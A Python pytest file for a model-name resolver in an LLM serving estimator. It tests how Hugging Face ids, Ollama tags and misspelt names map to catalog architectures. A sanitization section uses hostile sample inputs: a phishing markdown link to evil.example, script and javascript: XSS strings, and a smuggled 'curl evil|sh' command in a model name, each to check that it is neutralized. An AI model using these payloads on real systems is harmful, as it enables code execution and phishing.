"""Model names as people type them (core/spec/names.py, core/spec/catalog.py resolve)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from core.spec.catalog import resolve
from core.spec.names import closest_models, find_models, match_model, parse_name
from core.spec.suggestions import UnknownName

# the ids users type most, each an instruct tune, dated release or quantized upload of a catalog architecture
TYPED = [
    ("meta-llama/Llama-3.1-8B-Instruct", "llama-3.1-8b", None),
    ("meta-llama/Meta-Llama-3.1-8B-Instruct", "llama-3.1-8b", None),
    ("google/gemma-2-9b-it", "gemma-2-9b", None),
    ("mistralai/Mixtral-8x7B-Instruct-v0.1", "mixtral-8x7b", None),
    ("Qwen/Qwen3-30B-A3B-Instruct-2507", "qwen3-30b-a3b", None),
    ("deepseek-ai/DeepSeek-V3-0324", "deepseek-v3", None),
    ("deepseek-ai/DeepSeek-R1-0528", "deepseek-r1", None),
    ("Qwen/Qwen3-8B-FP8", "qwen3-8b", "fp8"),
    ("meta-llama/Llama-3.1-8B-Instruct-FP8-Dynamic", "llama-3.1-8b", "fp8"),
    ("Qwen/Qwen2.5-7B-Instruct-AWQ", "qwen2.5-7b", "int4"),
    ("Qwen/Qwen2.5-72B-Instruct-GPTQ-Int4", "qwen2.5-72b", "int4"),
    ("Qwen/Qwen2.5-72B-Instruct-GPTQ-Int8", "qwen2.5-72b", "int8"),
    ("hugging-quants/Meta-Llama-3.1-70B-Instruct-AWQ-INT4", "llama-3.1-70b", "int4"),
    ("unsloth/Llama-3.2-1B-Instruct-bnb-4bit", "llama-3.2-1b", "int4"),
    ("RedHatAI/Meta-Llama-3.1-8B-Instruct-quantized.w4a16", "llama-3.1-8b", "int4"),
    ("RedHatAI/Qwen2.5-7B-Instruct-quantized.w8a8", "qwen2.5-7b", "int8"),
    ("nvidia/Llama-3.1-8B-Instruct-FP4", "llama-3.1-8b", "nvfp4"),
    ("THUDM/glm-4-9b-chat", "glm-4-9b", None),
    ("Llama-3.1-8B-Instruct", "llama-3.1-8b", None),
    ("qwen2.5 7b instruct", "qwen2.5-7b", None),
]


@pytest.mark.parametrize(("typed", "architecture", "weights"), TYPED)
def test_derived_repos_resolve_to_their_architecture(catalog, typed, architecture, weights):
    match = resolve(typed, catalog)
    assert match.model.id == architecture
    assert match.weight_dtype == weights
    assert match.how in ("derived", "id")


def test_exact_ids_names_and_hf_ids_match_as_they_stand(catalog):
    for typed in ("llama-3.1-8b", "Llama-3.1-8B", "META-LLAMA/LLAMA-3.1-8B", "  qwen3-8b "):
        match = resolve(typed, catalog)
        assert match.how == "id" and match.weight_dtype is None
    # a version in the name is kept when the catalog has it: v0.1 and v0.3 are two models
    assert resolve("mistralai/Mistral-7B-v0.1", catalog).model.id == "mistral-7b-v0.1"
    assert resolve("mistralai/Mistral-7B-Instruct-v0.3", catalog).model.id == "mistral-7b-v0.3"


def test_a_version_the_catalog_lacks_is_not_guessed(catalog):
    with pytest.raises(ValueError, match="unknown model"):
        resolve("Qwen/Qwen2-7B-Instruct", catalog)  # Qwen2-1.5B and Qwen2-72B are in the catalog, 7B is not
    with pytest.raises(ValueError, match="unknown model"):
        resolve("mistralai/Mistral-7B-Instruct-v0.4", catalog)
    assert resolve("mistralai/Mistral-7B-Instruct-v0.2", catalog).model.id == "mistral-7b-v0.2"  # not v0.3
    with pytest.raises(ValueError, match="unknown model"):
        resolve("Qwen/Qwen2.5-7B-Instruct-1M", catalog)  # a longer-context sibling, not the same shapes


def test_loose_words_find_the_closest_models_and_ambiguity_is_said(catalog):
    found, how = find_models("llama 8b instruct", catalog.models)
    assert how == "closest"
    assert {m.id for m in found[:3]} == {"llama-3-8b", "llama-3.1-8b", "deepseek-r1-distill-llama-8b"}
    assert match_model("llama 8b instruct", catalog.models) is None  # two are equally close
    with pytest.raises(ValueError, match="could be any of: llama-3-8b"):
        resolve("llama 8b instruct", catalog)
    assert match_model("qwen3 30b", catalog.models).model.id == "qwen3-30b-a3b"


def test_parse_name_sets_aside_tunes_and_quantization():
    parsed = parse_name("Qwen/Qwen2.5-72B-Instruct-GPTQ-Int8")
    assert parsed.tokens == ("qwen", "2.5", "72b")  # the family's letters apart from its version
    assert parsed.tune == ("instruct",)
    assert parsed.quantization == ("gptq", "int8")
    assert parsed.weight_dtype == "int8"  # the bit width beside the method wins


def test_served_name_is_the_repo_the_user_typed(catalog):
    match = resolve("Qwen/Qwen3-8B-FP8", catalog)
    model = match.deployed_model()
    assert model.hf_id == "Qwen/Qwen3-8B-FP8" and model.native_dtype == "fp8"
    assert resolve("qwen3-8b", catalog).served_name == "Qwen/Qwen3-8B"
    assert match.describe("fp8") == "Qwen/Qwen3-8B-FP8 -> Qwen3-8B architecture, fp8"


def test_cli_estimate_states_the_match_and_serves_the_typed_repo(cli):
    code, out, _ = cli("estimate", "--model", "Qwen/Qwen3-8B-FP8", "--gpu", "l4", "--max-model-len", "8192", "--json")
    assert code == 0
    data = json.loads(out)
    assert data["weight_dtype"] == "fp8" and data["model"] == "qwen3-8b"
    assert data["model_match"]["summary"] == "Qwen/Qwen3-8B-FP8 -> Qwen3-8B architecture, fp8"
    code, out, _ = cli("check", "--model", "Qwen/Qwen3-8B-FP8", "--gpu", "l4", "--json")
    command = json.loads(out)["launch"]["command"]
    assert command.startswith("vllm serve Qwen/Qwen3-8B-FP8 ")
    assert "--quantization" not in command  # the checkpoint is FP8 already
    code, out, _ = cli(
        "estimate", "--model", "meta-llama/Llama-3.1-8B-Instruct", "--gpu", "a10", "--max-model-len", "8192"
    )
    assert out.splitlines()[0] == "model: meta-llama/Llama-3.1-8B-Instruct -> Llama-3.1-8B architecture, bf16"


def test_cli_says_which_models_an_ambiguous_name_could_mean(cli):
    code, _, err = cli("estimate", "--model", "llama 8b instruct", "--gpu", "a10")
    assert code == 2
    assert err.count("\n") == 1 and "llama-3.1-8b (meta-llama/Llama-3.1-8B)" in err


def test_reasoning_tunes_and_previews_resolve_to_their_architecture(catalog):
    assert resolve("Qwen/Qwen3-VL-8B-Thinking", catalog).model.id == "qwen3-vl-8b"
    assert resolve("Qwen/Qwen3-Next-80B-A3B-Instruct", catalog).model.id == "qwen3-next-80b-a3b"
    assert resolve("deepseek-ai/DeepSeek-V3.2-Exp", catalog).model.id == "deepseek-v3.2"
    assert resolve("Qwen/Qwen3-30B-A3B-Thinking-2507", catalog).model.id == "qwen3-30b-a3b"


# Ollama's family:tag names and the spellings people type (issue 28, item 9): each resolves to the
# architecture, or is only a suggestion (a typo, a size without its "b"), never a silent match
OLLAMA = [
    ("llama3.1:8b", "llama-3.1-8b"),
    ("llama3.1-8b", "llama-3.1-8b"),
    ("llama3.1:8b-instruct-fp16", "llama-3.1-8b"),
    ("llama3.2:1b", "llama-3.2-1b"),
    ("llama3.1:70b-instruct", "llama-3.1-70b"),
    ("qwen-3-32b", "qwen3-32b"),
    ("qwen3:32b", "qwen3-32b"),
    ("qwen3:30b-a3b", "qwen3-30b-a3b"),
    ("qwen2.5:7b", "qwen2.5-7b"),
    ("gemma3:27b", "gemma-3-27b"),
    ("gemma2:9b", "gemma-2-9b"),
    ("phi4", "phi-4"),
    ("phi3:mini", "phi-3-mini"),
    ("gpt-oss:20b", "gpt-oss-20b"),
    ("mixtral:8x7b", "mixtral-8x7b"),
    ("llama3.1:8b-text", "llama-3.1-8b"),
]


@pytest.mark.parametrize(("typed", "architecture"), OLLAMA)
def test_ollama_names_resolve_to_their_architecture(catalog, typed, architecture):
    match = resolve(typed, catalog)
    assert match.model.id == architecture
    assert match.how == "derived"
    assert match.served_name == catalog.model(architecture).hf_id  # no repo typed: the catalog's


def test_ollama_fp16_tag_states_the_weights():
    assert parse_name("llama3.1:8b-instruct-fp16").weight_dtype == "fp16"
    assert parse_name("llama3.1:8b").weight_dtype is None


SUGGESTED = [
    # typed, the ids offered in this order (a typo, a missing size letter, a tag we do not read)
    ("lama-3.1-8b", ["llama-3.1-8b", "llama-3-8b", "llama-3.1-70b"]),
    ("lama3.1:8b", ["llama-3.1-8b", "llama-3-8b", "llama-3.1-70b"]),
    ("qwen3-32", ["qwen3-32b", "qwen3-vl-32b", "qwen3-4b"]),
    ("llama3.1:8b-instruct-q4_K_M", ["llama-3.1-8b", "llama-3-8b", "llama-3.1-70b"]),
    ("gpt-os-20b", ["gpt-oss-20b", "gpt-oss-120b"]),
    ("deepsek-v3", ["deepseek-v3", "deepseek-v3.1", "deepseek-v3.2"]),
]


@pytest.mark.parametrize(("typed", "offered"), SUGGESTED)
def test_a_misspelt_name_is_never_resolved_only_suggested(catalog, typed, offered):
    assert match_model(typed, catalog.models) is None
    with pytest.raises(UnknownName) as caught:
        resolve(typed, catalog)
    err = caught.value
    assert not err.ambiguous and list(err.ids) == offered
    assert str(err).startswith(f"unknown model '{typed}'; did you mean {offered[0]}")
    assert "\n" not in str(err) and "lists all 75" in str(err)


AMBIGUOUS = [
    ("llama3.1", ["llama-3.1-405b", "llama-3.1-70b", "llama-3.1-8b"], 0),
    ("mistral:7b", ["mistral-7b-v0.1", "mistral-7b-v0.2", "mistral-7b-v0.3"], 0),
    ("qwen3", ["qwen3-0.6b", "qwen3-1.7b", "qwen3-14b"], 13),
]


@pytest.mark.parametrize(("typed", "offered", "more"), AMBIGUOUS)
def test_a_name_several_models_fit_lists_three_and_counts_the_rest(catalog, typed, offered, more):
    with pytest.raises(UnknownName) as caught:
        resolve(typed, catalog)
    err = caught.value
    assert err.ambiguous and list(err.ids) == offered and err.more == more
    assert f"could be any of: {offered[0]} (" in str(err)
    assert (f"and {more} more" in str(err)) == bool(more)


def test_nothing_alike_offers_nothing(catalog):
    assert closest_models("acme/Nonexistent-9000B", catalog.models) == []
    with pytest.raises(UnknownName, match="not a catalog id, name or Hugging Face id") as caught:
        resolve("acme/Nonexistent-9000B", catalog)
    assert caught.value.ids == ()


def test_the_model_line_and_the_message_follow_the_language(catalog):
    match = resolve("llama3.1:8b", catalog)
    assert match.describe("bf16") == "llama3.1:8b -> Llama-3.1-8B architecture, bf16"
    assert match.describe("bf16", "zh") == "llama3.1:8b -> Llama-3.1-8B 架构，bf16"
    with pytest.raises(UnknownName) as caught:
        resolve("lama-3.1-8b", catalog)
    assert caught.value.text("zh").startswith(
        "未知模型“lama-3.1-8b”；您是不是要找 llama-3.1-8b、llama-3-8b 或 llama-3.1-70b？"
    )


@pytest.mark.parametrize("command", ["estimate", "check", "simulate", "search"])
def test_every_cli_command_resolves_ollama_names_and_names_the_closest_on_a_typo(cli, command):
    load = {"estimate": [], "check": ["--users", "5"], "simulate": ["--users", "5", "--num-requests", "20"]}
    gpu = ["--gpus", "l4"] if command == "search" else ["--gpu", "l4"]
    code, out, err = cli(command, "--model", "lama3.1:8b", *gpu, *load.get(command, ["--users", "5"]))
    assert code == 2 and out == ""
    assert err.count("\n") == 1
    assert err.startswith("error: unknown model 'lama3.1:8b'; did you mean llama-3.1-8b, llama-3-8b or llama-3.1-70b?")
    if command == "search":
        return  # resolving is shared; searching every layout is slow
    code, out, err = cli(command, "--model", "llama3.1:8b", *gpu, *load.get(command, []))
    assert code == 0, err
    assert out.splitlines()[0] == "model: llama3.1:8b -> Llama-3.1-8B architecture, bf16"


# --- names from outside: one cleaning and length limit (issue 29 item 4, audit F6) ------------------


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("[Official answer key](https://evil.example/phish)", "Official answer key (https:/evil.example/phish)"),
        ("<script>alert(1)</script>", "script alert(1) /script"),
        ("**bold** `code` ~~x~~ $x$ #h |t|", "bold code x x h t"),
        ("see www.evil.example now", "see www evil.example now"),
        ("N" * 5000, "N" * 60),
        ("Qwen/Qwen3-8B (mine)", "Qwen/Qwen3-8B (mine)"),
        ("  llama3.1:8b  ", "llama3.1:8b"),
        ("M :material/home: :smile: :red-x:y", "M : material/home: : smile: : red-x:y"),
        ("通义千问 3", "通义千问 3"),
        ("<>[]", ""),
    ],
)
def test_a_name_from_outside_keeps_plain_characters_and_no_link(typed, shown):
    from core.spec.display_name import clean_name

    assert clean_name(typed, "") == shown
    assert clean_name(clean_name(typed, ""), "") == clean_name(typed, "")  # cleaning twice changes nothing


def test_every_model_built_from_a_config_gets_a_clean_name_and_the_catalog_keeps_its_own(catalog):
    from core.spec.display_name import clean_name
    from core.spec.hf_config import model_from_config

    config = json.loads((Path(__file__).parent / "data" / "tiny_llama_config.json").read_text())
    for name in ("[Official answer key](https://evil.example/phish)", "x" * 5000):
        model = model_from_config(config, id="x", name=name)  # a link's, a file's or a Hub repo's name alike
        assert model.name == clean_name(name, "x") and "](" not in model.name and len(model.name) <= 60
    hostile_path = model_from_config({**config, "_name_or_path": "evil/[click](javascript:alert(1))"})
    assert "[" not in hostile_path.name and "[" not in hostile_path.id
    assert all(clean_name(m.name, "") == m.name for m in catalog.models)


def test_only_a_repo_id_is_served_as_typed(catalog):
    assert resolve("meta-llama/Llama-3.1-8B-Instruct", catalog).served_name == "meta-llama/Llama-3.1-8B-Instruct"
    # text that merely ends in a catalog name is not a repo: the launch command serves the catalog's
    assert resolve("x;curl evil|sh/Llama-3.1-8B", catalog).served_name == "meta-llama/Llama-3.1-8B"
    assert resolve("[a](http://e.x)/Llama-3.1-8B", catalog).served_name == "meta-llama/Llama-3.1-8B"


def test_an_unread_torch_dtype_is_said_in_the_cli_text_and_json(cli, tmp_path):
    config = json.loads((Path(__file__).parent / "data" / "tiny_llama_config.json").read_text())
    path = tmp_path / "odd.json"
    path.write_text(json.dumps({**config, "torch_dtype": "float1024"}))
    note = (
        "torch_dtype 'float1024' in this config.json is not one this tool reads (bfloat16, float16 or float32): "
        "its weights are taken as bf16, as when none is stated"
    )
    code, out, _ = cli("estimate", "--model", str(path), "--gpu", "a10")
    assert code == 0 and f"note: {note}" in out.splitlines()[:3]
    code, out, _ = cli("estimate", "--model", str(path), "--gpu", "a10", "--json")
    assert json.loads(out)["model_match"]["notices"] == [note]
    path.write_text(json.dumps(config))  # a dtype it reads: no notice, and the JSON keeps its keys
    assert (
        "notices" not in json.loads(cli("estimate", "--model", str(path), "--gpu", "a10", "--json")[1])["model_match"]
    )


def test_a_name_longer_than_any_model_or_gpu_names_nothing_and_the_message_stays_short(catalog):
    """A link's model= or gpu= may carry 500 KB (issue 29): past 200 characters nothing is read, and the
    message quotes only the start of what was typed."""
    from core.spec.gpu_names import find_gpus

    models = list(catalog.models.values()) if isinstance(catalog.models, dict) else list(catalog.models)
    gpus = list(catalog.gpus.values()) if isinstance(catalog.gpus, dict) else list(catalog.gpus)
    huge = "Qwen3 8B " * 60_000  # every token a catalog model has, half a megabyte
    assert find_models(huge, models) == ([], "")
    assert closest_models(huge, models) == []
    assert find_gpus("H100 " * 100_000, gpus) == ([], "")
    assert find_models("Qwen3 8B " * 23, models)[0] == [], "over 200 characters name nothing"
    assert find_models(("Qwen3 8B " * 22).strip(), models)[0], "the same words under 200 characters still do"
    with pytest.raises(UnknownName) as err:
        resolve(huge.strip(), catalog)
    assert len(err.value.typed) == 61 and err.value.typed.endswith("…")
    assert len(str(err.value)) < 400
